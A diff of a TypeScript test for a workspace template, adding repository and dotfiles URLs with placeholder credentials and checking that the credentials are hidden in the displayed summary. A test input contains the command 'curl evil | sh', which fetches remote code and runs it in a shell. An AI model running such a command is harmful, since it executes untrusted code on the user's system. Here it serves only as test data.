@@ -24,6 +24,8 @@ const full: SettingsInput = {
   cpus: 4,
   gitAccess: 'token',
   gitToken: 'SECRET-1',
+  repository: 'https://SECRET-5@github.com/acme/app',
+  dotfiles: 'https://SECRET-6@github.com/me/dotfiles',
   gitUserName: 'Me',
   gitUserEmail: 'other@example.org',
   env: [
@@ -66,6 +68,7 @@ describe('a template of a workspace', () => {
       'firstProcess',
       'lifespanHours',
       'repository',
+      'dotfiles',
       'gitUserEmail',
       'gitAccess',
     ]);
@@ -118,6 +121,8 @@ describe('a template of a workspace', () => {
       'Volumes and data: //files/share → /a (read-only) ⏎ rclone → /b (read-only) ⏎ /srv → /c (read-only)',
       'Apps: run-it',
       'Environment: PLAIN=shown ⏎ TOKEN (secret)',
+      'Git repository: https://github.com/acme/app',
+      'Dotfiles: https://github.com/me/dotfiles',
     ]);
     assert.deepEqual(reachLines({ initScript: 'curl evil | sh', publicKeys: ['ssh-ed25519 AAAA x'] }), [
       'Init script: curl evil | sh',
